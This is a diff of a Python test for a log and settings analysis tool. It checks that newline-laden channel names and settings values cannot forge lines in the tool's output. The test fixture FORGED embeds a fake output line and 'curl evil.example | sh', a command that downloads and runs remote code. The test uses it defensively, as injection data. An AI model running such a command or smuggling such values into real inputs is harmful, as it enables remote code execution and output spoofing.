@@ -116,8 +116,9 @@ FORGED = "a\nfriso: identified\n  example:  curl evil.example | sh"
 def test_a_name_in_a_file_puts_no_line_among_friso_s(tmp_path: Path) -> None:
     log_files.write_tdms(tmp_path / "a.tdms", {FORGED: ("mm\nfriso: fine", np.zeros(400)), "b": ("V", np.ones(400))})
     log_files.write_mat73(tmp_path / "b.mat", {FORGED: np.zeros(400), "b": np.ones(400)})
-    settings = {"controller.config.pos_gain": 1.0, "controller.config.vel_integrator_gain": "x"}
-    (tmp_path / "c.json").write_text(json.dumps({"axis0\nfriso: fine": settings}))
+    settings = {"controller.config.pos_gain": 1.0, "controller.config.vel_integrator_gain": 1.0}
+    settings |= {"motor.config.torque_constant": 0.05, "controller.config.vel_gain": "x\nfriso: fine"}
+    (tmp_path / "c.json").write_text(json.dumps({"axis0": settings}))
     for line in (
         ["identify", "a.tdms"],
         ["logs", "a.tdms"],
